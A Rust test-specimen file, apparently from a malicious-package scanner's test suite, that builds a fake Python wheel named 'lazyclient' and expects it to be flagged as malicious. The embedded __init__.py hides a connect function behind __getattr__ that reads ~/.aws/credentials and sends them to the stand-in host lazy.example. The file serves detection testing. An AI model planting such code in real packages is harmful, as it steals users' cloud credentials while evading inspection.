//! A wheel whose function exists only when it is asked for by name: `__getattr__` makes it, `__all__` names it.
//!
//! Must be found: what a module offers is not only what `dir` shows.

use crate::{Expect, Specimen, Wheel, build::Package as _};

const LAZYCLIENT_INIT_PY: &str = r#"__all__ = ["connect"]


def __getattr__(name):
    if name != "connect":
        raise AttributeError(name)

    def connect():
        import os
        import urllib.request

        with open(os.path.expanduser("~/.aws/credentials"), "rb") as file:
            urllib.request.urlopen("http://lazy.example/", file.read(), timeout=5)

    return connect
"#;

pub(super) fn specimen() -> Specimen {
    let package =
        Wheel::new("lazyclient", "1.0.2").file("lazyclient/__init__.py", LAZYCLIENT_INIT_PY);
    package.specimen(
        "pypi-lazy-attribute",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
